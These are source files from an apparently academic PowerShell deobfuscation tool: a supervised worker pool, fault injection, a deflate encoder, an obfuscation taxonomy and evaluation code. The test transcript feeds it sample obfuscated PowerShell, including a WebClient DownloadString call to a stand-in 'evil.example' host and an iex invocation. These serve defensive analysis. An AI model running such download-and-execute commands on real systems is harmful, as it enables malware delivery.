          let claimed = Unix.gettimeofday () in
          Telemetry.Metrics.observe m_queue_wait ((claimed -. started) *. 1000.0);
          let r = match f items.(i) with v -> Ok v | exception e -> Error e in
          Telemetry.Metrics.observe m_run
            ((Unix.gettimeofday () -. claimed) *. 1000.0);
          Telemetry.Metrics.incr m_tasks;
          results.(i) <- Some r;
          loop ()
        end
      in
      loop ()
    in
    (* the calling domain is worker number [jobs]; spawn the other jobs-1 *)
    let domains = List.init (jobs - 1) (fun k -> Domain.spawn (worker k)) in
    worker (jobs - 1) ();
    List.iter Domain.join domains;
    Array.to_list
      (Array.map
         (function
           | Some (Ok v) -> v
           | Some (Error e) -> raise e
           | None -> assert false (* every index was claimed and joined *))
         results)
  end

let iter ?jobs f items = ignore (map ?jobs f items)

(* ---------- persistent service pool ---------- *)

(* The daemon shape of the pool: instead of mapping one finite list, a
   fixed set of worker domains drains a bounded queue for the life of the
   process.  The bound is the admission-control contract — submit never
   blocks and never grows memory; when the queue is full the caller sheds
   the item (answers "overloaded") instead of queueing unboundedly.

   With supervision the pool is also {e crash-only}: a supervisor domain
   watches per-worker heartbeat slots (current item, admission deadline,
   progress cell bumped from Guard checkpoints).  OCaml domains cannot be
   killed preemptively, so "preemption" here means the supervisor answers
   the victim's request on the worker's behalf, abandons the wedged domain
   (it exits on its own when — if ever — its loop ends), and installs a
   fresh domain in the slot; replacement failures back off exponentially
   with a flight-recorder dump at every edge. *)
module Service = struct
  let m_recycled = Telemetry.Metrics.counter "pool.service.recycled"
  let m_depth = Telemetry.Metrics.gauge "pool.service.depth"
  let m_wedged = Telemetry.Metrics.counter "pool.service.wedged"
  let m_respawns = Telemetry.Metrics.counter "pool.service.respawns"
  let m_respawn_failures =
    Telemetry.Metrics.counter "pool.service.respawn_failures"
  let m_recycled_mem = Telemetry.Metrics.counter "pool.service.recycled_mem"
  let m_zombies = Telemetry.Metrics.gauge "pool.service.zombies"

  type 'a supervision = {
    sv_grace_s : float;
    sv_deadline_of : 'a -> float;
    sv_describe : 'a -> string;
    sv_on_wedged : 'a -> unit;
    sv_should_recycle : unit -> bool;
  }

  (* Exponential respawn backoff: first failure retries fast, a crash loop
     levels off.  Pure, so the progression is testable in isolation. *)
  let respawn_backoff_base_s = 0.05
  let respawn_backoff_cap_s = 5.0

  let respawn_backoff failures =
    if failures <= 0 then 0.0
    else
      Float.min respawn_backoff_cap_s
        (respawn_backoff_base_s *. Float.pow 2.0 (float_of_int (failures - 1)))

  (* One worker's heartbeat slot.  The worker writes item/deadline around
     each request and bumps the progress cell from Guard checkpoints; the
     supervisor reads everything through the atomics from its own domain.
     A replaced (wedged) worker keeps its own slot record — the fresh
     domain gets a fresh record — so the zombie's exit path never races
     the replacement's state. *)
  type 'a slot = {
    sl_item : 'a option Atomic.t;
    sl_deadline : float Atomic.t;  (* infinity when idle *)
    sl_progress : int Atomic.t;  (* Guard heartbeat cell *)
    sl_abandoned : bool Atomic.t;  (* declared wedged: exit after the item *)
    sl_retired : bool Atomic.t;  (* the worker's loop has exited *)
  }

  let new_slot () =
    { sl_item = Atomic.make None; sl_deadline = Atomic.make infinity;
      sl_progress = Atomic.make 0; sl_abandoned = Atomic.make false;
      sl_retired = Atomic.make false }

  (* per-position mutable state, touched only by the supervisor (and
     create): the live slot/domain pair plus the respawn backoff ledger *)
  type 'a position = {
    mutable p_slot : 'a slot;
    mutable p_domain : unit Domain.t option;
    mutable p_failures : int;  (* consecutive respawn failures *)
    mutable p_next_respawn : float;  (* epoch; 0 = immediately *)
  }

  type 'a t = {
    mutex : Mutex.t;
    nonempty : Condition.t;
    queue : (float * 'a) Queue.t;  (* (enqueue time, item) *)
    cap : int;
    handler : 'a -> unit;
    mutable stopping : bool;
    inflight : int Atomic.t;
    supervise : 'a supervision option;
    mutable positions : 'a position array;
    mutable supervisor : unit Domain.t option;
    supervisor_stop : bool Atomic.t;
    mutable zombies : ('a slot * unit Domain.t) list;  (* under mutex *)
  }

  let worker t (slot : 'a slot) () =
    (* register the heartbeat cell so every Guard checkpoint below this
       worker publishes progress the supervisor can read *)
    Guard.set_progress_cell (Some slot.sl_progress);
    let supervised = t.supervise <> None in
    let rec loop () =
      if Atomic.get slot.sl_abandoned then ()
      else begin
        Mutex.lock t.mutex;
        while Queue.is_empty t.queue && not t.stopping do
          Condition.wait t.nonempty t.mutex
        done;
        if Queue.is_empty t.queue then Mutex.unlock t.mutex (* draining done *)
        else begin
          let enqueued, item = Queue.pop t.queue in
          Telemetry.Metrics.set m_depth (Queue.length t.queue);
          Mutex.unlock t.mutex;
          Telemetry.Metrics.observe m_queue_wait
            ((Unix.gettimeofday () -. enqueued) *. 1000.0);
          Atomic.incr t.inflight;
          (* deadline before item: a supervisor that can see the item can
             always see a valid deadline for it *)
          if supervised then begin
            (match t.supervise with
            | Some sv -> Atomic.set slot.sl_deadline (sv.sv_deadline_of item)
            | None -> ());
            Atomic.set slot.sl_item (Some item)
          end;
          let t0 = Unix.gettimeofday () in
          (* handlers are expected to be total (everything below them runs
             under Guard.protect); this catch is the recycling backstop — a
             handler bug or an injected pool fault costs one item, never a
             worker, and never the server *)
          (try t.handler item
           with e ->
             Telemetry.Metrics.incr m_recycled;
             (* black-box forensics before the worker moves on: the domain's
                flight ring still holds the spans the dying request recorded *)
             ignore
               (Telemetry.Flight.dump
                  ~reason:("worker-recycled: " ^ Printexc.to_string e)
                  ());
             Telemetry.Log.warn (fun () ->
                 "service worker recycled: " ^ Printexc.to_string e));
          if supervised then begin
            Atomic.set slot.sl_item None;
            Atomic.set slot.sl_deadline infinity
          end;
          Telemetry.Metrics.observe m_run
            ((Unix.gettimeofday () -. t0) *. 1000.0);
          Atomic.decr t.inflight;
          (* memory-pressure recycle: over the hard watermark the governor
             asks workers to retire between requests, releasing
             domain-local state; the supervisor respawns the position *)
          let mem_recycle =
            match t.supervise with
            | Some sv when not (Atomic.get slot.sl_abandoned) ->
                (not t.stopping) && sv.sv_should_recycle ()
            | _ -> false
          in
          if mem_recycle then begin
            Telemetry.Metrics.incr m_recycled_mem;
            Telemetry.Log.info (fun () ->
                "service worker recycled under memory pressure")
          end
          else loop ()
        end
      end
    in
    loop ();
    Guard.set_progress_cell None;
    Atomic.set slot.sl_retired true

  (* Spawn a replacement into position [p].  The "serve.respawn" chaos site
     models the spawn itself failing (resource exhaustion at the worst
     moment); a failure backs off exponentially and leaves the position
     empty until the next supervisor scan past the backoff. *)
  let try_respawn t p ~now =
    if now >= p.p_next_respawn then begin
      match Chaos.probe "serve.respawn" with
      | exception e ->
          p.p_failures <- p.p_failures + 1;
          p.p_next_respawn <- now +. respawn_backoff p.p_failures;
          Telemetry.Metrics.incr m_respawn_failures;
          ignore
            (Telemetry.Flight.dump
               ~reason:
                 (Printf.sprintf "respawn-failed[%d]: %s" p.p_failures
                    (Printexc.to_string e))
               ());
          Telemetry.Log.warn (fun () ->
              Printf.sprintf "worker respawn failed (%d consecutive), \
                              backing off %.3fs"
                p.p_failures
                (respawn_backoff p.p_failures))
      | () -> (
          let slot = new_slot () in
          match Domain.spawn (worker t slot) with
          | d ->
              p.p_slot <- slot;
              p.p_domain <- Some d;
              p.p_failures <- 0;
              p.p_next_respawn <- 0.0;
              Telemetry.Metrics.incr m_respawns
          | exception e ->
              (* a real spawn failure (domain limit) takes the same backoff
                 path as an injected one *)
              p.p_failures <- p.p_failures + 1;
              p.p_next_respawn <- now +. respawn_backoff p.p_failures;
              Telemetry.Metrics.incr m_respawn_failures;
              Telemetry.Log.warn (fun () ->
                  "worker respawn failed: " ^ Printexc.to_string e))
    end

  (* One supervisor scan: declare wedges (answer the victim, abandon the
     domain, free the position) and respawn retired/abandoned positions. *)
  let scan t sv ~now =
    Array.iter
      (fun p ->
        let slot = p.p_slot in
        (* wedge detection: a worker polling Guard checkpoints raises
           Deadline_exceeded at its first checkpoint past the deadline, so
           one still busy at deadline+grace has stopped reaching
           checkpoints — its progress cell is frozen and only the
           supervisor can answer for it *)
        (match Atomic.get slot.sl_item with
        | Some item
          when (not (Atomic.get slot.sl_abandoned))
               && now > Atomic.get slot.sl_deadline +. sv.sv_grace_s ->
            Atomic.set slot.sl_abandoned true;
            Telemetry.Metrics.incr m_wedged;
            ignore
              (Telemetry.Flight.dump
                 ~reason:
                   (Printf.sprintf "worker-wedged: %s (progress=%d)"
                      (sv.sv_describe item)
                      (Atomic.get slot.sl_progress))
                 ());
            Telemetry.Log.warn (fun () ->
                Printf.sprintf "worker wedged on %s: answering and replacing"
                  (sv.sv_describe item));
            (* answer the victim from the supervisor — the wedged domain
               may never come back to do it *)
            (try sv.sv_on_wedged item
             with e ->
               Telemetry.Log.warn (fun () ->
                   "on_wedged raised: " ^ Printexc.to_string e));
            (* the wedged handler still counts as inflight until its loop
               ends; account for it here so drain logic can discount it *)
            (match p.p_domain with
            | Some d ->
                Mutex.lock t.mutex;
                t.zombies <- (slot, d) :: t.zombies;
                Telemetry.Metrics.set m_zombies (List.length t.zombies);
                Mutex.unlock t.mutex
            | None -> ());
            p.p_domain <- None;
            p.p_slot <- new_slot ();
            Atomic.set p.p_slot.sl_retired true (* nothing running: respawn *)
        | _ -> ());
        (* respawn: the position's worker retired (memory recycle, wedge
           replacement above, or a crash of the loop itself) *)
        if (not t.stopping) && Atomic.get p.p_slot.sl_retired then begin
          (match p.p_domain with
          | Some d ->
              (* the loop exited; join is immediate and frees the domain *)
              Domain.join d;
              p.p_domain <- None
          | None -> ());
          try_respawn t p ~now
        end)
      t.positions;
    (* reap zombies whose bounded wedge finally ended *)
    Mutex.lock t.mutex;
    let finished, still =
      List.partition (fun (s, _) -> Atomic.get s.sl_retired) t.zombies
    in
    t.zombies <- still;
    Telemetry.Metrics.set m_zombies (List.length still);
    Mutex.unlock t.mutex;
    List.iter (fun (_, d) -> Domain.join d) finished

  let supervisor_loop t sv () =
    let interval =
      Float.max 0.002 (Float.min 0.05 (sv.sv_grace_s /. 8.0))
    in
    while not (Atomic.get t.supervisor_stop) do
      Unix.sleepf interval;
      scan t sv ~now:(Unix.gettimeofday ())
    done

  let create ~jobs ~queue_cap ?supervise handler =
    let t =
      { mutex = Mutex.create (); nonempty = Condition.create ();
        queue = Queue.create (); cap = max 1 queue_cap; handler;
        stopping = false; inflight = Atomic.make 0; supervise;
        positions = [||]; supervisor = None;
        supervisor_stop = Atomic.make false; zombies = [] }
    in
    Telemetry.Metrics.set m_jobs (max 1 jobs);
    t.positions <-
      Array.init (max 1 jobs) (fun _ ->
          let slot = new_slot () in
          { p_slot = slot; p_domain = Some (Domain.spawn (worker t slot));
            p_failures = 0; p_next_respawn = 0.0 });
    (match supervise with
    | Some sv -> t.supervisor <- Some (Domain.spawn (supervisor_loop t sv))
    | None -> ());
    t

  let submit t item =
    Mutex.lock t.mutex;
    let accepted =
      (not t.stopping) && Queue.length t.queue < t.cap
    in
    if accepted then begin
      Queue.push (Unix.gettimeofday (), item) t.queue;
      Telemetry.Metrics.set m_depth (Queue.length t.queue);
      Condition.signal t.nonempty
    end;
    Mutex.unlock t.mutex;
    accepted

  let depth t =
    Mutex.lock t.mutex;
    let n = Queue.length t.queue in
    Mutex.unlock t.mutex;
    n

  let inflight t = Atomic.get t.inflight

  (* busy slots whose worker is still trusted — wedged (abandoned) slots
     are excluded: their item was already answered by the supervisor *)
  let active_inflight t =
    Array.fold_left
      (fun acc p ->
        if Atomic.get p.p_slot.sl_abandoned then acc
        else acc + (match Atomic.get p.p_slot.sl_item with Some _ -> 1 | None -> 0))
      0 t.positions

  let shutdown t =
    Mutex.lock t.mutex;
    t.stopping <- true;
    Condition.broadcast t.nonempty;
    Mutex.unlock t.mutex;
    (match t.supervise with
    | None -> ()
    | Some sv ->
        (* drain under supervision: wait for the queue to empty and the
           non-wedged inflight work to finish.  The supervisor keeps
           scanning throughout, so a request that wedges {e during} the
           drain is still answered and its worker replaced; wedged domains
           get a bounded grace to end on their own, then are leaked (the
           process is exiting) rather than hanging the drain on an
           unjoinable domain. *)
        let patience = Unix.gettimeofday () +. Float.max 1.0 (8.0 *. sv.sv_grace_s) in
        let rec wait_drain () =
          let busy = depth t > 0 || active_inflight t > 0 in
          if busy then
            if Unix.gettimeofday () < patience then begin
              Unix.sleepf 0.005;
              wait_drain ()
            end
        in
        wait_drain ());
    Atomic.set t.supervisor_stop true;
    (match t.supervisor with
    | Some d ->
        Domain.join d;
        t.supervisor <- None
    | None -> ());
    (* join live workers: with the queue drained and [stopping] set their
       loops exit; an abandoned (wedged) worker is joined only once its
       loop actually ended, with bounded patience, else leaked *)
    let join_bounded slot d =
      let deadline = Unix.gettimeofday () +. 2.0 in
      let rec wait () =
        if Atomic.get slot.sl_retired then begin
          Domain.join d;
          true
        end
        else if Unix.gettimeofday () < deadline then begin
          Unix.sleepf 0.005;
          wait ()
        end
        else false
      in
      match t.supervise with
      | None ->
          Domain.join d;
          true
      | Some _ ->
          if Atomic.get slot.sl_abandoned then wait ()
          else begin
            Domain.join d;
            true
          end
    in
    Array.iter
      (fun p ->
        match p.p_domain with
        | Some d ->
            if join_bounded p.p_slot d then p.p_domain <- None
            else
              Telemetry.Log.warn (fun () ->
                  "leaking a wedged worker domain at shutdown")
        | None -> ())
      t.positions;
    Mutex.lock t.mutex;
    let zombies = t.zombies in
    t.zombies <- [];
    Mutex.unlock t.mutex;
    List.iter
      (fun (slot, d) ->
        if not (join_bounded slot d) then
          Telemetry.Log.warn (fun () ->
              "leaking a wedged worker domain at shutdown"))
      zombies;
    Telemetry.Metrics.set m_zombies 0;
    t.positions <- [||]
end
