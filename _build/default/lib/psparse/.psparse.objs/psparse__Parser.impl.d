lib/psparse/parser.ml: Array Buffer Extent Float List Option Printf Psast Pscommon Pslex Strcase String
