  $ echo "iex ('write'+'-host hi')" | invoke_deobfuscation deobfuscate -
  $ printf "%s" "ie\`x ([Convert]::FromBase64String('eA=='))" | invoke_deobfuscation score -
  $ echo "write-host hello" | invoke_deobfuscation tokens -
  $ echo "('a'+'b')" | invoke_deobfuscation ast -
  $ echo "(New-Object Net.WebClient).DownloadString('http://evil.example/x') | Out-Null" | invoke_deobfuscation run -
  $ echo "powershell -File C:\\x\\stage.ps1 # fetch http://evil.example/a.ps1 at 10.0.0.1" | invoke_deobfuscation keyinfo -
  $ echo "write-host roundtrip" | invoke_deobfuscation obfuscate --seed 9 -t encode-bxor - | invoke_deobfuscation deobfuscate -
  $ printf "%s" "\$a = 'se'+'cret'; write-host \$a" | invoke_deobfuscation deobfuscate --no-tracing -
  $ echo "if(1){  write-host   hi }" | invoke_deobfuscation format -
  $ echo "iex ('write-host '+'hi')" | invoke_deobfuscation report - | head -6
