lib/corpus/generator.mli: Obfuscator
