lib/experiments/table2.ml: Baselines Buffer Deobf Fun Hashtbl List Obfuscator Printf Pscommon Psparse Rng Strcase String
