(** Deterministic fault injection: named probe points, seeded draw streams,
    and the corpus mutation fuzzer.  See the interface for the contract. *)

type config = {
  seed : int;
  rate : float;
  site_rates : (string * float) list;
}

exception Injected of string

(* enabled/disabled is one atomic load on the probe fast path *)
let cfg : config option Atomic.t = Atomic.make None

let set c = Atomic.set cfg c
let current () = Atomic.get cfg
let enabled () = Atomic.get cfg <> None

(* Guard registers Deadline_exceeded at init; until then (or in tests that
   use Chaos without Guard) the deadline fault degrades to Injected *)
let deadline_exn : exn ref = ref (Injected "deadline")
let set_deadline_exn e = deadline_exn := e

(* Same inversion for the memory fault: raising the runtime's own
   [Out_of_memory] from a probe made injected exhaustion indistinguishable
   from the real allocator giving up — and the runtime's preallocated
   exception is not ours to raise.  Guard registers its dedicated
   injected-OOM exception here at init (classified as [Oom], so the
   structured failure reads identically); before registration the fault
   degrades to Injected. *)
let oom_exn : exn ref = ref (Injected "oom")
let set_oom_exn e = oom_exn := e

(* The draw stream is domain-local so parallel workers never interleave
   draws; with_scope re-derives it from (seed, label) so a worker's stream
   depends only on what it is processing, not on which domain it is. *)
let stream : Rng.t option ref Domain.DLS.key =
  Domain.DLS.new_key (fun () -> ref None)

let draws_counter = Atomic.make 0
let draws () = Atomic.get draws_counter
let reset_draws () = Atomic.set draws_counter 0

let stream_for seed label =
  Rng.create
    (Int64.logxor
       (Int64.mul 0x9E3779B97F4A7C15L (Int64.of_int (Hashtbl.hash label + 1)))
       (Int64.of_int seed))

let with_scope label f =
  match Atomic.get cfg with
  | None -> f ()
  | Some c ->
      let r = Domain.DLS.get stream in
      let saved = !r in
      r := Some (stream_for c.seed label);
      Fun.protect ~finally:(fun () -> r := saved) f

let rate_for c site =
  match List.assoc_opt site c.site_rates with Some r -> r | None -> c.rate

let inject c site =
  Atomic.incr draws_counter;
  let r = Domain.DLS.get stream in
  let rng =
    match !r with
    | Some g -> g
    | None ->
        let g = stream_for c.seed "ambient" in
        r := Some g;
        g
  in
  (* always draw, so the stream position is independent of per-site rates
     at other sites and of whether this probe fires *)
  if Rng.chance rng (rate_for c site) then
    match Rng.int rng 4 with
    | 0 -> raise !deadline_exn
    | 1 -> raise Stack_overflow
    | 2 -> raise !oom_exn
    | _ -> raise (Injected site)

let probe site =
  match Atomic.get cfg with None -> () | Some c -> inject c site

(* ---------- --chaos / env spec ---------- *)

let parse_site_rates spec =
  let parse_one acc part =
    match acc with
    | Error _ as e -> e
    | Ok acc -> (
        match String.index_opt part '=' with
        | None -> Error (Printf.sprintf "expected SITE=RATE, got %S" part)
        | Some i -> (
            let site = String.trim (String.sub part 0 i) in
            let rate =
              String.trim (String.sub part (i + 1) (String.length part - i - 1))
            in
            match float_of_string_opt rate with
            | Some r when r >= 0.0 && r <= 1.0 -> Ok ((site, r) :: acc)
            | _ -> Error (Printf.sprintf "bad rate %S for site %s" rate site)))
  in
  match
    List.fold_left parse_one (Ok []) (String.split_on_char ',' spec)
  with
  | Ok l -> Ok (List.rev l)
  | Error _ as e -> e

let parse_base seed rate =
  match
    (int_of_string_opt (String.trim seed), float_of_string_opt (String.trim rate))
  with
  | Some seed, Some rate when rate >= 0.0 && rate <= 1.0 ->
      Ok { seed; rate; site_rates = [] }
  | _ -> Error "expected SEED:RATE with RATE in [0,1]"

let parse_spec s =
  match String.split_on_char ':' s with
  | [ seed; rate ] | [ seed; rate; "" ] -> parse_base seed rate
  | [ seed; rate; sites ] -> (
      match parse_base seed rate with
      | Error _ as e -> e
      | Ok base -> (
          match parse_site_rates sites with
          | Ok site_rates -> Ok { base with site_rates }
          | Error _ as e -> e))
  | _ -> Error "expected SEED:RATE[:SITE=RATE,...]"

(* ---------- corpus mutation fuzzer ---------- *)

module Mutate = struct
  type kind = Truncate | Byte_flip | Splice | Encoding

  let kinds = [ Truncate; Byte_flip; Splice; Encoding ]

  let kind_name = function
    | Truncate -> "truncate"
    | Byte_flip -> "byte-flip"
    | Splice -> "splice"
    | Encoding -> "encoding"

  let truncate_at frac s =
    let frac = Float.max 0.0 (Float.min 1.0 frac) in
    String.sub s 0 (int_of_float (frac *. float_of_int (String.length s)))

  let apply rng kind s =
    let n = String.length s in
    if n = 0 then "\000"
    else
      match kind with
      | Truncate -> truncate_at (0.1 +. Rng.float rng 0.8) s
      | Byte_flip ->
          let b = Bytes.of_string s in
          let flips = 1 + (n / 64) in
          for _ = 1 to flips do
            let i = Rng.int rng n in
            Bytes.set b i (Char.chr (Char.code (Bytes.get b i) lxor (1 + Rng.int rng 255)))
          done;
          Bytes.to_string b
      | Splice ->
          (* duplicate one slice over another — the shape of a dropper that
             concatenated two downloads at the wrong offsets *)
          let a = Rng.int rng n and b = Rng.int rng n in
          let lo = min a b and hi = max a b in
          let len = max 1 ((hi - lo) / 2) in
          let src_off = Rng.int rng (max 1 (n - len + 1)) in
          String.sub s 0 lo
          ^ String.sub s src_off (min len (n - src_off))
          ^ String.sub s hi (n - hi)
      | Encoding ->
          if Rng.bool rng then begin
            (* NUL-interleave a slice: half-decoded UTF-16 *)
            let lo = Rng.int rng n in
            let hi = min n (lo + 1 + Rng.int rng (max 1 (n / 4))) in
            let buf = Buffer.create (n + (hi - lo)) in
            Buffer.add_string buf (String.sub s 0 lo);
            String.iter
              (fun c ->
                Buffer.add_char buf c;
                Buffer.add_char buf '\000')
              (String.sub s lo (hi - lo));
            Buffer.add_string buf (String.sub s hi (n - hi));
            Buffer.contents buf
          end
          else
            (* binary dropper prefix: BOM plus raw high bytes *)
            let junk =
              String.init
                (8 + Rng.int rng 24)
                (fun _ -> Char.chr (128 + Rng.int rng 128))
            in
            "\xff\xfe" ^ junk ^ "\n" ^ s
end
