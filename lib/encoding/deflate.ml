let window_size = 32768
let min_match = 3
let max_match = 258
let hash_bits = 15
let hash_size = 1 lsl hash_bits

let length_symbol len =
  (* Inverse of Inflate.length_base: symbol 257..285 plus extra bits. *)
  let base = Inflate.length_base and extra = Inflate.length_extra in
  let rec find i =
    if i + 1 >= Array.length base then i
    else if len < base.(i + 1) then i
    else find (i + 1)
  in
  let i = find 0 in
  (257 + i, len - base.(i), extra.(i))

let distance_symbol dist =
  let base = Inflate.dist_base and extra = Inflate.dist_extra in
  let rec find i =
    if i + 1 >= Array.length base then i
    else if dist < base.(i + 1) then i
    else find (i + 1)
  in
  let i = find 0 in
  (i, dist - base.(i), extra.(i))

(* built eagerly at module init: racing Lazy.force from parallel batch
   domains is unsafe, and the fixed Huffman tables are cheap to compute *)
let fixed_lit_lengths = Huffman.fixed_literal_lengths ()
let fixed_lit_codes = Huffman.codes_of_lengths fixed_lit_lengths
let fixed_dist_codes = Huffman.codes_of_lengths (Huffman.fixed_distance_lengths ())

let emit_literal w sym =
  Bitstream.Writer.huffman w ~code:fixed_lit_codes.(sym)
    ~length:fixed_lit_lengths.(sym)

let emit_match w ~len ~dist =
  let lsym, lextra_val, lextra_bits = length_symbol len in
  emit_literal w lsym;
  if lextra_bits > 0 then Bitstream.Writer.bits w ~value:lextra_val ~count:lextra_bits;
  let dsym, dextra_val, dextra_bits = distance_symbol dist in
  Bitstream.Writer.huffman w ~code:fixed_dist_codes.(dsym) ~length:5;
  if dextra_bits > 0 then Bitstream.Writer.bits w ~value:dextra_val ~count:dextra_bits

let hash3 s i =
  let a = Char.code s.[i] and b = Char.code s.[i + 1] and c = Char.code s.[i + 2] in
  ((a lsl 10) lxor (b lsl 5) lxor c) land (hash_size - 1)

let deflate s =
  let n = String.length s in
  let w = Bitstream.Writer.create () in
  (* single final block, fixed Huffman *)
  Bitstream.Writer.bits w ~value:1 ~count:1;
  Bitstream.Writer.bits w ~value:1 ~count:2;
  let head = Array.make hash_size (-1) in
  let prev = Array.make (max n 1) (-1) in
  let match_length_at i j =
    let limit = min max_match (n - i) in
    let rec loop k = if k < limit && s.[i + k] = s.[j + k] then loop (k + 1) else k in
    loop 0
  in
  let insert i =
    if i + min_match <= n then begin
      let h = hash3 s i in
      prev.(i) <- head.(h);
      head.(h) <- i
    end
  in
  let i = ref 0 in
  while !i < n do
    let best_len = ref 0 and best_dist = ref 0 in
    if !i + min_match <= n then begin
      let h = hash3 s !i in
      let candidate = ref head.(h) in
      let tries = ref 64 in
      while !candidate >= 0 && !tries > 0 do
        if !i - !candidate <= window_size then begin
          let len = match_length_at !i !candidate in
          if len > !best_len then begin
            best_len := len;
            best_dist := !i - !candidate
          end;
          candidate := prev.(!candidate);
          decr tries
        end
        else begin
          candidate := -1
        end
      done
    end;
    if !best_len >= min_match then begin
      emit_match w ~len:!best_len ~dist:!best_dist;
      for k = !i to !i + !best_len - 1 do
        insert k
      done;
      i := !i + !best_len
    end
    else begin
      emit_literal w (Char.code s.[!i]);
      insert !i;
      incr i
    end
  done;
  emit_literal w 256;
  Bitstream.Writer.contents w

let deflate_stored s =
  let n = String.length s in
  let w = Bitstream.Writer.create () in
  let max_block = 65535 in
  let blocks = if n = 0 then 1 else (n + max_block - 1) / max_block in
  for b = 0 to blocks - 1 do
    let start = b * max_block in
    let len = min max_block (n - start) in
    let final = if b = blocks - 1 then 1 else 0 in
    Bitstream.Writer.bits w ~value:final ~count:1;
    Bitstream.Writer.bits w ~value:0 ~count:2;
    Bitstream.Writer.align_byte w;
    Bitstream.Writer.bits w ~value:len ~count:16;
    Bitstream.Writer.bits w ~value:(len lxor 0xFFFF) ~count:16;
    for k = start to start + len - 1 do
      Bitstream.Writer.byte w s.[k]
    done
  done;
  Bitstream.Writer.contents w
