lib/psvalue/format_op.ml: Buffer Char List Printf String Value
