(** The obfuscation-technique taxonomy of the paper (Table II).

    Levels follow §II-B: L1 only affects text/readability, L2 changes
    lexical features and AST shape but keeps character-level information,
    L3 also hides character-level information. *)

type t =
  (* L1 — randomization & alias *)
  | Ticking
  | Whitespacing
  | Random_case
  | Random_name
  | Alias_sub
  (* L2 — string-related *)
  | Str_concat
  | Str_reorder
  | Str_replace
  | Str_reverse
  (* L3 — encodings and wrappers *)
  | Enc_binary
  | Enc_octal
  | Enc_ascii
  | Enc_hex
  | Enc_base64
  | Enc_whitespace
  | Enc_specialchar
  | Enc_bxor
  | Secure_string_enc
  | Deflate_compress
  (* dynamic — run-time value assembly (loops / accumulators / conditional
     selection), beyond the reach of static tracing *)
  | Loop_build
  | Accum_join
  | Cond_payload

val all : t list
(** In the paper's Table II row order. *)

val level : t -> int
(** 1, 2 or 3. *)

val name : t -> string
(** Stable kebab-case name ("encode-bxor", "concatenate", …). *)

val of_name : string -> t option

val l1 : t list
val l2 : t list
val l3 : t list
(** Per-level pools for wild-mix sampling.  The {!dynamic} techniques are
    excluded, so adding them did not shift any seeded corpus. *)

val dynamic : t list
(** [Loop_build; Accum_join; Cond_payload] — the run-time value-assembly
    techniques the dynamic-provenance recovery stage exists to undo. *)
