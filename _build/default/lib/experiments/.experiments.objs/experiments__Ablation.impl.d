lib/experiments/ablation.ml: Corpus Deobf Keyinfo List Printf Sandbox Unix
