lib/deobf/token_phase.ml: List Patch Pscommon Pslex Psparse Strcase String
