lib/pscommon/extent.mli: Format
