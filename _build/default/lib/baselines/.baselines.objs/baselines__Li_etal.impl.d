lib/baselines/li_etal.ml: Buffer Int List Printf Psast Pseval Psparse Psvalue String Tool
