(** Fig 5 (key information recovered) and Fig 6 (deobfuscation time) share
    the same 100-sample workload: obfuscated scripts between 97 bytes and
    2 KB.  The manual-deobfuscation ground truth of the paper is the clean
    pre-obfuscation script each sample was generated from. *)

type sample_set = {
  samples : Corpus.Generator.sample list;
  ground_truths : Keyinfo.t list;
}

let make_samples ?(seed = 1009) ?(count = 100) () =
  let samples =
    Corpus.Generator.generate_sized ~seed ~count ~min_bytes:97 ~max_bytes:2048
  in
  {
    samples;
    ground_truths =
      List.map (fun s -> Keyinfo.extract s.Corpus.Generator.clean) samples;
  }

(* ---------- Fig 5 ---------- *)

type fig5_row = {
  tool : string;
  ps1 : int;
  powershell : int;
  urls : int;
  ips : int;
  total : int;
  same_as_manual : float;  (** fraction of samples with all key info recovered *)
}

type fig5_result = { manual : fig5_row; rows : fig5_row list }

let count_info name infos =
  let sum f = List.fold_left (fun acc i -> acc + List.length (f i)) 0 infos in
  {
    tool = name;
    ps1 = sum (fun i -> i.Keyinfo.ps1_files);
    powershell = sum (fun i -> i.Keyinfo.powershell_commands);
    urls = sum (fun i -> i.Keyinfo.urls);
    ips = sum (fun i -> i.Keyinfo.ips);
    total = sum (fun i -> i.Keyinfo.ps1_files) + sum (fun i -> i.Keyinfo.powershell_commands)
            + sum (fun i -> i.Keyinfo.urls) + sum (fun i -> i.Keyinfo.ips);
    same_as_manual = 1.0;
  }

let run_fig5 ?(tools = Baselines.All_tools.all) set =
  let manual = count_info "Manual" set.ground_truths in
  let rows =
    List.map
      (fun tool ->
        let recovered =
          List.map2
            (fun sample ground ->
              let out =
                tool.Baselines.Tool.deobfuscate sample.Corpus.Generator.obfuscated
              in
              let info = Keyinfo.extract out.Baselines.Tool.result in
              Keyinfo.intersection ~ground_truth:ground info)
            set.samples set.ground_truths
        in
        let row = count_info tool.Baselines.Tool.name recovered in
        let full =
          List.fold_left2
            (fun acc ground got ->
              if Keyinfo.count got >= Keyinfo.count ground then acc + 1 else acc)
            0 set.ground_truths recovered
        in
        { row with
          same_as_manual = float_of_int full /. float_of_int (List.length set.samples) })
      tools
  in
  { manual; rows }

let print_fig5 result =
  Printf.printf "Fig 5: key information recovered (ground truth = manual)\n";
  Printf.printf "  %-22s %6s %11s %6s %6s %7s %14s\n" "Tool" "ps1" "powershell"
    "URL" "IP" "total" "=manual";
  let pr r =
    Printf.printf "  %-22s %6d %11d %6d %6d %7d %13.1f%%\n" r.tool r.ps1
      r.powershell r.urls r.ips r.total (100. *. r.same_as_manual)
  in
  pr result.manual;
  List.iter pr result.rows;
  Printf.printf "  (paper: Invoke-Deobfuscation recovers >2x the others; 96.8%% same as manual)\n"

(* ---------- Fig 6 ---------- *)

type timing = {
  tool : string;
  mean_s : float;
  max_s : float;
  p90_s : float;
  over_10s : int;  (** samples beyond 10 s, the paper's fluctuation marker *)
}

let run_fig6 ?(tools = Baselines.All_tools.all) set =
  List.map
    (fun tool ->
      let times =
        List.map
          (fun sample ->
            let t0 = Unix.gettimeofday () in
            let out =
              tool.Baselines.Tool.deobfuscate sample.Corpus.Generator.obfuscated
            in
            let wall = Unix.gettimeofday () -. t0 in
            wall +. out.Baselines.Tool.simulated_seconds)
          set.samples
      in
      let sorted = List.sort Float.compare times in
      let n = List.length sorted in
      let mean = List.fold_left ( +. ) 0.0 sorted /. float_of_int (max 1 n) in
      let nth k = List.nth sorted (min (n - 1) k) in
      {
        tool = tool.Baselines.Tool.name;
        mean_s = mean;
        max_s = nth (n - 1);
        p90_s = nth (n * 9 / 10);
        over_10s = List.length (List.filter (fun t -> t > 10.0) sorted);
      })
    tools

let print_fig6 rows =
  Printf.printf
    "Fig 6: deobfuscation time over the 100-sample set (wall + simulated \
     side-effect time)\n";
